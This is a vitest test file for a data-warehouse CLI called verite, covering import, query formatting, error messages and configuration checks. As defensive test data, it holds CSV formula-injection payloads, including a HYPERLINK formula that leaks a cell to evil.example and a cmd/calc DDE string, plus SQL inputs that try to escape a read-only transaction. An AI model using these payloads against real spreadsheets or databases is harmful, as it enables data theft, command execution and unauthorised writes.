import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { printQuery, type QueryFormat } from '../../cli/commands/query.ts';
import { OutputWriter } from '../../cli/output.ts';
import type { Warehouse } from '../../warehouse/connection.ts';
import { runCli } from '../support/cli.ts';
import { createTestDatabase } from '../support/database.ts';

let wh: Warehouse;
let dir: string;
let env: Record<string, string>;

beforeAll(async () => {
  wh = await createTestDatabase('cli');
  dir = mkdtempSync(join(tmpdir(), 'verite-cli-'));
  writeFileSync(join(dir, 'verite.config.json'), JSON.stringify({ reportingTimezone: 'UTC' }));
  env = { DATABASE_URL: wh.url, VERITE_CONFIG: join(dir, 'verite.config.json') };
});
const elsewheres: string[] = [];
afterAll(async () => {
  await wh?.close();
  for (const d of [dir, ...elsewheres]) if (d) rmSync(d, { recursive: true, force: true });
});

const line = (id: number) => JSON.stringify({ id, name: `#${id}`, updated_at: '2024-03-01T10:00:00Z', total_price: `${id}.00` });

describe('verite import', () => {
  it('lands every good line, quarantines the broken one, and adds nothing the second time', async () => {
    const file = join(dir, 'orders.jsonl');
    writeFileSync(file, [line(1), line(2), '{"id": 3, "name": "#3", "updated_at": ', line(4), ''].join('\n'));
    const first = await runCli(['import', 'shopify', 'orders', file], { env });
    expect(first.code, first.stderr).toBe(0);
    expect(first.stdout).toMatch(/4 record\(s\) read, 3 written, 0 unchanged, 1 quarantined/);
    const raw = await wh.pool.query(`select _key from raw.shopify__orders order by _key::int`);
    expect(raw.rows.map((r) => r._key)).toEqual(['1', '2', '4']);
    const q = await wh.pool.query(`select source, stream, reason, raw, location from ops.quarantine`);
    expect(q.rows).toHaveLength(1);
    expect(q.rows[0]).toMatchObject({ source: 'shopify', stream: 'orders', raw: '{"id": 3, "name": "#3", "updated_at": ', location: 'orders.jsonl:3' });
    expect(q.rows[0].reason).toMatch(/not valid JSON/);

    // Again, the stream written as the catalogue writes it (source.stream).
    const again = await runCli(['import', 'shopify.orders', file], { env });
    expect(again.code, again.stderr).toBe(0);
    expect(again.stdout).toMatch(/4 record\(s\) read, 0 written, 3 unchanged/);
    expect((await wh.pool.query(`select count(*)::int as n from raw.shopify__orders`)).rows[0].n).toBe(3);
    expect((await wh.pool.query(`select count(*)::int as n from ops.quarantine`)).rows[0].n).toBe(1);
  });

  it('reads a JSON array and a CSV file', async () => {
    const json = join(dir, 'rates.json');
    writeFileSync(json, JSON.stringify([{ date: '2024-03-01', base: 'EUR', quote: 'USD', rate: 1.08 }, { date: '2024-03-01', base: 'EUR', quote: 'GBP', rate: 0.85 }]));
    const csv = join(dir, 'rates.csv');
    writeFileSync(csv, 'date,base,quote,rate\n2024-03-04,EUR,USD,1.09\n');
    expect((await runCli(['import', 'fx', 'rates', json], { env })).code).toBe(0);
    expect((await runCli(['import', 'fx', 'rates', csv], { env })).code).toBe(0);
    const raw = await wh.pool.query(`select _key from raw.fx__rates order by _key`);
    expect(raw.rows.map((r) => r._key)).toEqual(['EUR|GBP|2024-03-01', 'EUR|USD|2024-03-01', 'EUR|USD|2024-03-04']);
  });

  it('exits 2 on an unknown stream or a missing file', async () => {
    const unknown = await runCli(['import', 'shopify', 'nope', join(dir, 'orders.jsonl')], { env });
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/unknown stream shopify\.nope/);
    // A stream written as the catalogue writes it, a letter off: the close ones are named.
    const typo = await runCli(['import', 'shopify', 'order', join(dir, 'orders.jsonl')], { env });
    expect(typo.code).toBe(2);
    expect(typo.stderr).toMatch(/^verite: unknown stream shopify\.order \(did you mean shopify\.orders\b/);
    const missing = await runCli(['import', 'shopify', 'orders', join(dir, 'missing.jsonl')], { env });
    expect(missing.code).toBe(2);
    const noFile = await runCli(['import', 'shopify', 'orders'], { env });
    expect(noFile.code).toBe(2);
    expect(noFile.stderr).toContain('missing the file: verite import SOURCE STREAM FILE (or SOURCE.STREAM FILE)');
  });

});

describe('the warehouse named by a file', () => {
  it('connects to the URL in the file DATABASE_URL_FILE names, as a container is given its secrets', async () => {
    const file = join(dir, 'database_url');
    writeFileSync(file, `${wh.url}\n`);
    const res = await runCli(['query', `select count(*)::int as n from raw.shopify__orders where _key = '1'`, '--format', 'json'], { env: { VERITE_CONFIG: env.VERITE_CONFIG!, DATABASE_URL: '', DATABASE_URL_FILE: file } });
    expect(res.code, res.stderr).toBe(0);
    expect(JSON.parse(res.stdout)).toEqual([{ n: 1 }]);
  });
});

describe('verite query', () => {
  it('prints only a JSON array of row objects on stdout with --format json', async () => {
    const res = await runCli(['query', "select _key as id, (_record->>'total_price')::numeric as total from raw.shopify__orders order by _key::int", '--format', 'json'], { env });
    expect(res.code, res.stderr).toBe(0);
    // Issue 17: a numeric column is a JSON number (it was the string '1.00'), written with the digits the database sent.
    expect(JSON.parse(res.stdout)).toEqual([
      { id: '1', total: 1 },
      { id: '2', total: 2 },
      { id: '4', total: 4 },
    ]);
    expect(res.stdout).toBe('[{"id":"1","total":1.00},{"id":"2","total":2.00},{"id":"4","total":4.00}]\n');
  });

  it('issue 17: --format json gives numbers as JSON numbers, every digit kept, and NaN as a string', async () => {
    const sql =
      "select 5660.099311374795421377::numeric as revenue, 9007199254740993::bigint as big, 'NaN'::numeric as nan, 2::int as n, " +
      "0.5::float8 as f, '-Infinity'::float8 as low, '12' as text_twelve, null::numeric as missing";
    const res = await runCli(['query', sql, '--format', 'json'], { env });
    expect(res.code, res.stderr).toBe(0);
    // 9007199254740993 is 2^53 + 1: as a JavaScript number it would print 9007199254740992.
    expect(res.stdout).toBe('[{"revenue":5660.099311374795421377,"big":9007199254740993,"nan":"NaN","n":2,"f":0.5,"low":"-Infinity","text_twelve":"12","missing":null}]\n');
    expect(JSON.parse(res.stdout)[0]).toMatchObject({ revenue: 5660.099311374795, n: 2, f: 0.5 });
  });

  it('issue 17: a table rounds money to cents and other decimals to 6 places, for reading only; CSV keeps every digit', async () => {
    const sql =
      'select 5660.099311374795421377::numeric as revenue, 12.345::numeric as total_price_rc, 0.02341234567::numeric as conversion_rate, ' +
      '1.0834::numeric as rate, 74123::bigint as orders';
    const table = await runCli(['query', sql], { env });
    expect(table.code, table.stderr).toBe(0);
    const [header, , row] = table.stdout.split('\n');
    expect(header!.trim().split(/\s+/)).toEqual(['revenue', 'total_price_rc', 'conversion_rate', 'rate', 'orders']);
    // 12.345 rounds half away from zero on its decimal digits: 12.35 (as a binary double it would be 12.34).
    expect(row!.trim().split(/\s+/)).toEqual(['5,660.10', '12.35', '0.023412', '1.0834', '74123']);
    const csv = await runCli(['query', sql, '--format', 'csv'], { env });
    expect(csv.stdout).toBe('revenue,total_price_rc,conversion_rate,rate,orders\n5660.099311374795421377,12.345,0.02341234567,1.0834,74123\n');
  });

  it('a table rounds money to the reporting currency\'s minor unit: none for JPY, three places for KWD', async () => {
    const sql = 'select 5660.5::numeric as revenue, 12.3456::numeric as total_price_rc, 1.0834::numeric as rate';
    for (const [currency, expected] of [
      ['JPY', ['5,661', '12', '1.0834']],
      ['KWD', ['5,660.500', '12.346', '1.0834']],
    ] as const) {
      const file = join(dir, `verite.${currency}.json`);
      writeFileSync(file, JSON.stringify({ reportingTimezone: 'UTC', reportingCurrency: currency }));
      const table = await runCli(['query', sql], { env: { ...env, VERITE_CONFIG: file } });
      expect(table.code, table.stderr).toBe(0);
      expect(table.stdout.split('\n')[2]!.trim().split(/\s+/)).toEqual(expected);
    }
  });

  it('prints CSV', async () => {
    const res = await runCli(['query', "select 'a,b' as x, 2 as y", '--format', 'csv'], { env });
    expect(res.stdout).toBe('x,y\n"a,b",2\n');
  });

  it('CSV neutralises text cells a spreadsheet would run as a formula (OWASP CSV injection); numbers stay numbers, --raw-csv writes them as they are', async () => {
    // A UTM campaign is whatever a visitor's link says: these two are the classic payloads.
    const sql =
      `select '=HYPERLINK("https://evil.example/?"&A1,"Click")' as utm_campaign, '@SUM(1+1)*cmd|'' /C calc''!A0' as utm_content, ` +
      `'-3' as text_minus, -3 as int_minus, -3.5::numeric as numeric_minus, -9007199254740993::bigint as big_minus, '+1 555' as phone`;
    const csv = await runCli(['query', sql, '--format', 'csv'], { env });
    expect(csv.code, csv.stderr).toBe(0);
    // Text: a ' before it (then RFC 4180 quoting where a " or , is in it). Numbers, whichever way the driver gives them: as they are.
    expect(csv.stdout).toBe(
      'utm_campaign,utm_content,text_minus,int_minus,numeric_minus,big_minus,phone\n' +
        `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",'@SUM(1+1)*cmd|' /C calc'!A0,'-3,-3,-3.5,-9007199254740993,'+1 555\n`,
    );
    const raw = await runCli(['query', sql, '--format', 'csv', '--raw-csv'], { env });
    expect(raw.stdout).toBe(
      'utm_campaign,utm_content,text_minus,int_minus,numeric_minus,big_minus,phone\n' +
        `"=HYPERLINK(""https://evil.example/?""&A1,""Click"")",@SUM(1+1)*cmd|' /C calc'!A0,-3,-3,-3.5,-9007199254740993,+1 555\n`,
    );
    const table = await runCli(['query', 'select 1 as x', '--raw-csv'], { env });
    expect(table.code).toBe(2);
    expect(table.stderr).toContain('--raw-csv is for --format csv');
  });

  it('refuses to write: a statement that is not a query is a usage error, a write inside a query fails in the read-only transaction', async () => {
    const del = await runCli(['query', 'delete from raw.shopify__orders'], { env });
    expect(del.code).toBe(2);
    expect(del.stderr).toContain('verite: query: only a query can run here (SELECT, WITH, VALUES, TABLE, SHOW or EXPLAIN), not DELETE');
    const cte = await runCli(['query', 'with gone as (delete from raw.shopify__orders returning 1) select count(*) from gone'], { env });
    expect(cte.code).toBe(1);
    // PostgreSQL names the statement (a SELECT with a data-modifying WITH).
    expect(cte.stderr).toMatch(/cannot execute SELECT in a read-only transaction/);
    expect((await wh.pool.query(`select count(*)::int as n from raw.shopify__orders`)).rows[0].n).toBe(3);
  });

  it('says where the server stopped and which table or column was meant, as psql would and more', async () => {
    const said = async (sql: string) => {
      const res = await runCli(['query', sql], { env });
      expect(res.code, res.stderr).toBe(1);
      return res.stderr;
    };
    // A table of the warehouse named without its schema: the schema it is in.
    expect(await said('select _key from shopify__orders')).toBe(
      'verite: query failed: relation "shopify__orders" does not exist (did you mean raw.shopify__orders?)\n' +
        'LINE 1: select _key from shopify__orders\n' +
        '                         ^\n',
    );
    // A misspelt table, on the second line of the text.
    expect(await said('select _key\n  from raw.shopify__order')).toBe(
      'verite: query failed: relation "raw.shopify__order" does not exist (did you mean raw.shopify__orders?)\n' +
        'LINE 2:   from raw.shopify__order\n' +
        '               ^\n',
    );
    // Nothing close: where to look.
    expect(await said('select 1 from nowhere_near')).toMatch(/^verite: query failed: relation "nowhere_near" does not exist\nLINE 1: select 1 from nowhere_near\n {22}\^\n`verite metrics list` lists the published tables, and information_schema.tables every table\n$/);
    // A column the server has a hint for: its hint; one it has none for, the close column of the tables the text names.
    expect(await said('select _recrd from raw.shopify__orders')).toMatch(/column "_recrd" does not exist\nLINE 1: select _recrd from raw.shopify__orders\n {15}\^\nHINT: Perhaps you meant to reference the column "shopify__orders._record"\.\n$/);
    expect(await said('select _record_json from raw.shopify__orders')).toBe(
      'verite: query failed: column "_record_json" does not exist (did you mean _record?)\n' +
        'LINE 1: select _record_json from raw.shopify__orders\n' +
        '               ^\n',
    );
  });

  it('takes SQL that opens with a -- comment as its text (as `verite query "$(cat q.sql)"` gives), the options after it read as ever', async () => {
    // commander took it for an option: "error: unknown option '-- orders per day…'", exit 2.
    const json = await runCli(['query', '-- orders per day\nselect 1 as x', '--format', 'json'], { env });
    expect(json.code, json.stderr).toBe(0);
    expect(json.stdout).toBe('[{"x":1}]\n');
    const csv = await runCli(['query', '--format', 'csv', '--\ta tab after the dashes\nselect 2 as y'], { env });
    expect(csv.code, csv.stderr).toBe(0);
    expect(csv.stdout).toBe('y\n2\n');
    // What follows the comment is judged as before: a statement that is not a query, and where the server stopped.
    const del = await runCli(['query', '-- clean up\ndelete from raw.shopify__orders'], { env });
    expect(del.code).toBe(2);
    expect(del.stderr).toBe('verite: query: only a query can run here (SELECT, WITH, VALUES, TABLE, SHOW or EXPLAIN), not DELETE\n');
    const typo = await runCli(['query', '-- which table\nselect _key from raw.shopify__order'], { env });
    expect(typo.code).toBe(1);
    expect(typo.stderr).toBe(
      'verite: query failed: relation "raw.shopify__order" does not exist (did you mean raw.shopify__orders?)\n' +
        'LINE 2: select _key from raw.shopify__order\n' +
        '                         ^\n',
    );
    // A word after the dashes is an option still.
    const option = await runCli(['query', '--formatt', 'json', 'select 1'], { env });
    expect(option.code).toBe(2);
    expect(option.stderr).toMatch(/^error: unknown option '--formatt'/);
  });

  it('bounded memory: reads the result through a cursor a batch at a time and writes each batch as it comes, waiting for the reader', async () => {
    /** What `printQuery` writes, piece by piece, to a reader that takes each piece a turn of the event loop later. */
    const printed = async (sql: string, format: QueryFormat, rows: number) => {
      const pieces: string[] = [];
      // What the stream still held each time a piece was written: 0 when the writer waited for the reader.
      const waiting: number[] = [];
      const sink = new Writable({
        highWaterMark: 1,
        write(chunk, _encoding, done) {
          pieces.push(String(chunk));
          setImmediate(done);
        },
      });
      const write = sink.write.bind(sink) as (chunk: string) => boolean;
      sink.write = ((chunk: string) => {
        waiting.push(sink.writableLength);
        return write(chunk);
      }) as typeof sink.write;
      const client = await wh.pool.connect();
      try {
        await client.query('begin transaction read only');
        await printQuery(client, sql, format, new OutputWriter(sink), { rows });
        await client.query('commit');
      } finally {
        client.release(true);
      }
      expect(waiting.every((n) => n === 0)).toBe(true);
      return pieces;
    };
    const five = 'select g as n from generate_series(1, 5) g';
    // Fetched 2 at a time: 1 2 | 3 4 | 5, each batch one piece after the header.
    expect(await printed(five, 'csv', 2)).toEqual(['n\n', '1\n2\n', '3\n4\n', '5\n']);
    expect(await printed(five, 'json', 2)).toEqual(['[', '{"n":1},{"n":2}', ',{"n":3},{"n":4}', ',{"n":5}', ']\n']);
    // 4 rows fetched 2 at a time: the last fetch has none, and writes nothing.
    expect((await printed('select g as n from generate_series(1, 4) g', 'csv', 2)).join('')).toBe('n\n1\n2\n3\n4\n');
    // A table is laid out from its first batch: x is 2 wide (bb), n 2 wide (22) and right-aligned;
    // cccc, further down, pushes its own line out.
    const table = await printed("select x, n from (values ('a', 1), ('bb', 22), ('cccc', 3)) v(x, n)", 'table', 2);
    expect(table.join('')).toBe('x    n\n--  --\na    1\nbb  22\ncccc   3\n(3 rows)\n');
    // A statement a cursor does not take is read whole, as before: one piece of rows.
    expect(await printed('show standard_conforming_strings', 'csv', 2)).toEqual(['standard_conforming_strings\n', 'on\n']);
  });

  // Audit of issue 2: `verite query` ran its text in the simple protocol, so a second statement
  // after COMMIT (or after SET TRANSACTION READ WRITE) ran outside the read-only transaction.
  it('issue 2 audit: a second statement never runs, whatever the first one does to the transaction', async () => {
    const attacks = [
      // As reported: the first word is not a query.
      ['commit; create table public.pwned1(x int)', 2, /only a query can run here .* not COMMIT/],
      ['set transaction read write; create table public.pwned2(x int)', 2, /only a query can run here .* not SET/],
      // Past the first word, the server refuses a second statement (extended protocol).
      ['select 1; commit; create table public.pwned3(x int)', 2, /one statement at a time/],
      ['/* read */ select 1; set transaction read write; create table public.pwned4(x int)', 2, /one statement at a time/],
      // One statement that tries to escape the transaction's mode still cannot write.
      ['with t as (select set_config($$transaction_read_only$$, $$off$$, true)) select * from t', 1, /transaction read-write mode must be set before any query/],
    ] as const;
    for (const [sql, code, message] of attacks) {
      const res = await runCli(['query', sql], { env });
      expect(res.code, `${sql}: ${res.stderr}`).toBe(code);
      expect(res.stderr).toMatch(message);
    }
    const created = await wh.pool.query(`select table_name from information_schema.tables where table_schema = 'public' and table_name like 'pwned%'`);
    expect(created.rows).toEqual([]);
  });
});

describe('exit codes and help', () => {
  it('exits 2 with every problem of a bad config, and 0 on --help', async () => {
    const bad = join(dir, 'bad.json');
    writeFileSync(bad, JSON.stringify({ reportingCurrency: 'x', reportingTimezone: 'Nowhere/City' }));
    const res = await runCli(['status'], { env: { ...env, VERITE_CONFIG: bad } });
    expect(res.code).toBe(2);
    expect(res.stderr).toMatch(/2 problems/);
    const help = await runCli(['run', '--help'], { env });
    expect(help.code).toBe(0);
    expect(help.stdout).toMatch(/--sources/);
    // The default config files, .yml with .yaml, as the loader looks for them.
    expect(help.stdout.replace(/\s+/g, ' ')).toContain('configuration file (default: verite.config.{json,yaml,yml,ts} or VERITE_CONFIG)');
    const unknown = await runCli(['frobnicate'], { env });
    expect(unknown.code).toBe(2);
  });

  it('issue 17: run and schedule with no source configured are a usage error (exit 2) saying how to configure one, before the warehouse is opened', async () => {
    // The config of this file names no source; the warehouse URL points nowhere, so opening it would fail with exit 1.
    const nowhere = { ...env, DATABASE_URL: 'postgres://verite@127.0.0.1:1/none' };
    for (const command of [['run'], ['schedule'], ['run', '--sources', 'shopify']]) {
      const res = await runCli(command, { env: nowhere });
      expect(res.code, command.join(' ')).toBe(2);
      expect(res.stderr, command.join(' ')).toContain('no source is configured, so there is nothing to run. Add your shop\'s sources to verite.config.json');
      expect(res.stderr).toContain('or try the built-in demo shop with `verite run --demo`');
    }
    // From a folder without a config file (a cron line without its cd): which folder was looked in.
    const elsewhere = mkdtempSync(join(tmpdir(), 'verite-nowhere-'));
    elsewheres.push(elsewhere);
    // A source of --sources that is not configured: named with the close one, before the warehouse is opened.
    const shopConfig = join(elsewhere, 'shop.json');
    writeFileSync(shopConfig, JSON.stringify({ sources: { shopify: { shop: 'my-shop.myshopify.com' } } }));
    const typo = await runCli(['run', '--sources', 'shopfy'], { env: { DATABASE_URL: nowhere.DATABASE_URL, VERITE_CONFIG: shopConfig } });
    expect(typo.code).toBe(2);
    expect(typo.stderr).toBe('verite: not configured or disabled: shopfy (did you mean shopify?) (configured: shopify)\n');
    // The scheduler with --demo would land the real shop's sources into the demo's warehouse: refused, before it is opened.
    const demoSchedule = await runCli(['--demo', 'schedule'], { env: { DATABASE_URL: nowhere.DATABASE_URL, VERITE_CONFIG: shopConfig } });
    expect(demoSchedule.code).toBe(2);
    expect(demoSchedule.stderr).toBe("verite: the demo shop is not scheduled: `verite run --demo` builds it whole (again, when run again); `verite schedule` runs the real shop's sources, into its own warehouse\n");
    const lost = await runCli(['run'], { env: { DATABASE_URL: nowhere.DATABASE_URL }, cwd: elsewhere });
    expect(lost.code).toBe(2);
    expect(lost.stderr).toContain(
      `verite: no source is configured (no config file was found in ${elsewhere}: run verite from the folder that holds verite.config.json, or name it with --config or VERITE_CONFIG), so there is nothing to run.`,
    );
  });

  it('VERITE_LOG_LEVEL: warning and empty are taken; a name that is no level is a configuration error (exit 2), never pino\'s "custom levels"', async () => {
    for (const level of ['warning', 'WARN', '']) {
      const res = await runCli(['status', '--format', 'json'], { env: { ...env, VERITE_LOG_LEVEL: level } });
      expect(res.code, `${level}: ${res.stderr}`).toBe(0);
      expect(JSON.parse(res.stdout)).toHaveProperty('runs');
    }
    const verbose = await runCli(['status'], { env: { ...env, VERITE_LOG_LEVEL: 'verbose' } });
    expect(verbose.code).toBe(2);
    expect(verbose.stderr).toBe(
      'verite: invalid configuration: VERITE_LOG_LEVEL: expected trace, debug, info, warn, error, fatal or silent, got "verbose" (warning, err and information are read as warn, error and info)\n',
    );
    expect(verbose.stdout).toBe('');
  });

  it('refuses a list option given but naming nothing (a shell variable left unset), which meant every source or model', async () => {
    for (const args of [['run', '--sources', ''], ['check', '--sources', ' , '], ['transform', '--select', '']]) {
      const res = await runCli(args, { env });
      const option = args[1]!;
      expect(res.code, args.join(' ')).toBe(2);
      expect(res.stderr).toBe(`verite: ${option} names nothing: give one or more names, comma-separated, or leave ${option} out\n`);
    }
  });

  it('says the same, with the same exit code, run as a child process from bin/verite.js as in the test\'s own process', async () => {
    // Most tests run the command line in their own process (tests/support/cli.ts); these cases
    // take each way out of it: the end of a command, a usage error, commander's help and its
    // process.exit, a bad configuration, the logger's level read from the environment, and a
    // working folder with no config file.
    const bad = join(dir, 'bad-for-both.json');
    writeFileSync(bad, JSON.stringify({ reportingCurrency: 'x' }));
    const nowhere = mkdtempSync(join(tmpdir(), 'verite-cli-nowhere-'));
    elsewheres.push(nowhere);
    const cases: { args: string[]; env: Record<string, string>; cwd?: string; code: number }[] = [
      { args: ['query', 'select 1 + 1 as two', '--format', 'csv'], env, code: 0 },
      { args: ['run', '--help'], env, code: 0 },
      { args: [], env, code: 2 },
      { args: ['frobnicate'], env, code: 2 },
      { args: ['status'], env: { ...env, VERITE_CONFIG: bad }, code: 2 },
      { args: ['status'], env: { ...env, VERITE_LOG_LEVEL: 'verbose' }, code: 2 },
      { args: ['query', 'select 1', '--limit', '0'], env, code: 2 },
      { args: ['query', 'select * from no_such_table'], env, code: 1 },
      { args: ['run'], env: { DATABASE_URL: wh.url }, cwd: nowhere, code: 2 },
    ];
    for (const c of cases) {
      const inside = await runCli(c.args, { env: c.env, cwd: c.cwd });
      const child = await runCli(c.args, { env: c.env, cwd: c.cwd, process: true });
      const what = `verite ${c.args.join(' ')}`;
      expect(child.code, `${what}: ${child.stderr}`).toBe(c.code);
      expect(inside.code, `${what}: ${inside.stderr}`).toBe(c.code);
      expect(inside.stdout, what).toBe(child.stdout);
      expect(inside.stderr, what).toBe(child.stderr);
    }
    expect(process.cwd(), 'the test process is back in its own folder').not.toBe(nowhere);
  });

  it('issue 17: `verite` with no command prints the help and exits 2', async () => {
    const res = await runCli([], { env });
    expect(res.code).toBe(2);
    expect(res.stderr).toMatch(/^Usage: verite \[options\] \[command\]$/m);
    expect(res.stderr).toMatch(/^ {2}run \[options\] +one full run/m);
  });

  it('issue 17: a DATABASE_URL that is not a URL is a configuration error (exit 2) saying so, never "no such host base"', async () => {
    for (const [url, why] of [
      ['db.example.com 5432 shop secret', 'DATABASE_URL does not parse as a URL'],
      ['"postgres://verite:secret@db.example.com/shop"', 'DATABASE_URL does not parse as a URL (it is wrapped in quotes, which the file that set it kept: remove them)'],
      ['verite:secret@db.example.com/shop', 'DATABASE_URL does not parse as a PostgreSQL URL (it begins with verite:, not postgres://)'],
      ['mysql://verite:secret@db.example.com/shop', 'DATABASE_URL does not parse as a PostgreSQL URL (it begins with mysql:, not postgres://)'],
    ] as const) {
      const res = await runCli(['status'], { env: { ...env, DATABASE_URL: url } });
      expect(res.code, url).toBe(2);
      expect(res.stderr).toBe(
        `verite: invalid configuration: ${why}: expected a URL such as postgres://db.example.com:5432/verite, with user:password@ before the host (URL-encode a password holding @ : / ? # %)\n`,
      );
      expect(res.stderr).not.toContain('secret');
    }
  });

  it('a password holding a # or a lone % in DATABASE_URL is named as the cause, never "no such host ss" or "URI malformed"', async () => {
    for (const [url, why] of [
      // Unencoded, the # made `ss` the host and the rest a fragment.
      ['postgres://shop:p@ss#w0rd@db.example.com:5432/shop', "DATABASE_URL holds a #, which ends a URL's address: what follows it is not read, and a password holding # is cut there with its host taken from it. URL-encode a # in the password as %23"],
      ['postgres://shop:100%sure@db.example.com:5432/shop', "DATABASE_URL's password holds a % that two hexadecimal digits do not follow: URL-encode a % in it as %25"],
      ['postgres://shop:secret@db.example.com:5432/50%off', "DATABASE_URL's database name holds a % that two hexadecimal digits do not follow: URL-encode a % in it as %25"],
    ] as const) {
      const res = await runCli(['status'], { env: { ...env, DATABASE_URL: url } });
      expect(res.code, url).toBe(2);
      expect(res.stderr).toBe(`verite: invalid configuration: ${why}\n`);
      expect(res.stderr).not.toMatch(/w0rd|sure|secret/);
    }
  });

  // Audit of issue 2: a server that refused the connection was reported as "migration ? failed".
  it('names the server it could not reach, and why, without its password', async () => {
    const port = await new Promise<number>((resolve) => {
      const server = createServer().listen(0, '127.0.0.1', () => {
        const { port } = server.address() as { port: number };
        server.close(() => resolve(port)); // nothing listens there any more
      });
    });
    for (const command of [['status'], ['migrate']]) {
      const res = await runCli(command, { env: { ...env, DATABASE_URL: `postgres://verite:p@ss@127.0.0.1:${port}/shop` } });
      expect(res.code).toBe(1);
      expect(res.stderr).toBe(
        `verite: cannot connect to the warehouse at postgres://verite@127.0.0.1:${port}/shop (DATABASE_URL): ` +
          `connection refused: is PostgreSQL running there, and listening on that port? (connect ECONNREFUSED 127.0.0.1:${port})\n`,
      );
    }
  });

  it('a count, a time-out or a port that is not one is a usage error (exit 2), never the default taken without a word', async () => {
    const refused = async (args: string[], said: string, options: { env?: Record<string, string> } = {}) => {
      const res = await runCli(args, { env: options.env ?? env, timeoutMs: 60_000 });
      expect(res.code, `${args.join(' ')}: ${res.stderr}`).toBe(2);
      expect(res.stderr).toBe(`verite: ${said}\n`);
    };
    // status showed its 10 runs for `abc`, and one run for -5.
    for (const runs of ['abc', '-5', '2.5']) await refused(['status', '--runs', runs], `--runs ${runs}: expected a whole number from 1`);
    await refused(['status', '--format', 'jsn'], '--format must be table or json, not jsn');
    // 0.0001 s was rounded to 0 ms, which is no time-out at all; 1e12 was refused by the server as out of range.
    for (const timeout of ['0.0001', '0x10', '', '2147484']) {
      await refused(['query', 'select 1', '--timeout', timeout], `--timeout ${timeout}: expected a number of seconds from 0.001 to 2147483, such as 60 or 2.5`);
    }
    // An empty port was port 0 (any free one), 0x50 port 80: refused before the warehouse is opened.
    await refused(['serve', '--port', ''], '--port "": expected a port number (0–65535)');
    await refused(['serve', '--warehouse-port', '0x50'], '--warehouse-port "0x50": expected a port number (0–65535)');
    await refused(['schedule', '--serve', '--port', '80 80'], '--port "80 80": expected a port number (0–65535)');

    // The values they take, as before.
    const ids = ['cli-runs-1', 'cli-runs-2', 'cli-runs-3'];
    await wh.pool.query(
      `insert into ops.runs (id, kind, status, started_at, finished_at) select id, 'run', 'succeeded', timestamptz '2099-01-01' + n * interval '1 day', timestamptz '2099-01-01' + n * interval '1 day'
         from unnest($1::text[]) with ordinality as t(id, n)`,
      [ids],
    );
    try {
      const two = await runCli(['status', '--runs', '2', '--format', 'json'], { env });
      expect(two.code, two.stderr).toBe(0);
      expect((JSON.parse(two.stdout) as { runs: { id: string }[] }).runs.map((r) => r.id)).toEqual(['cli-runs-3', 'cli-runs-2']);
    } finally {
      await wh.pool.query(`delete from ops.runs where id = any($1)`, [ids]);
    }
    const halfSecond = await runCli(['query', 'select 1 as x', '--timeout', '0.5', '--format', 'csv'], { env });
    expect(halfSecond.code, halfSecond.stderr).toBe(0);
    expect(halfSecond.stdout).toBe('x\n1\n');
  });

  it('schedule --serve on a port another program holds stops the scheduler and exits, rather than scheduling on after the error', async () => {
    const shop = mkdtempSync(join(tmpdir(), 'verite-schedule-'));
    elsewheres.push(shop);
    const config = join(shop, 'verite.config.json');
    writeFileSync(config, JSON.stringify({ reportingTimezone: 'UTC', scheduleCatchUp: false, sources: { shipments: { path: shop } } }));
    const taken = createServer();
    const port = await new Promise<number>((resolve) => taken.listen(0, '127.0.0.1', () => resolve((taken.address() as { port: number }).port)));
    const hangUpHandlers = process.listenerCount('SIGHUP');
    try {
      // It printed the error, then went on running the schedule, its pages not served, until killed.
      const res = await runCli(['schedule', '--serve', '--port', String(port)], { env: { DATABASE_URL: wh.url, VERITE_CONFIG: config }, timeoutMs: 60_000 });
      expect(res.signal).toBeNull();
      expect(res.code).toBe(1);
      expect(res.stderr).toContain(`verite: 127.0.0.1:${port} is taken by another program (another verite serve?): give another --port`);
      // Its SIGHUP handler (read the configuration again) went with it: it had stayed behind.
      expect(process.listenerCount('SIGHUP')).toBe(hangUpHandlers);
    } finally {
      await new Promise((resolve) => taken.close(resolve));
    }
  });

  it('shows runs, streams and quarantine in status', async () => {
    const res = await runCli(['status'], { env });
    expect(res.code, res.stderr).toBe(0);
    expect(res.stdout).toMatch(/shopify\.orders/);
    expect(res.stdout).toMatch(/import/);
    const json = await runCli(['status', '--format', 'json'], { env });
    const parsed = JSON.parse(json.stdout) as { streams: { source: string; stream: string; rows: number; quarantined: number }[] };
    expect(parsed.streams.find((s) => s.source === 'shopify' && s.stream === 'orders')).toMatchObject({ rows: 3, quarantined: 1 });
  });
});
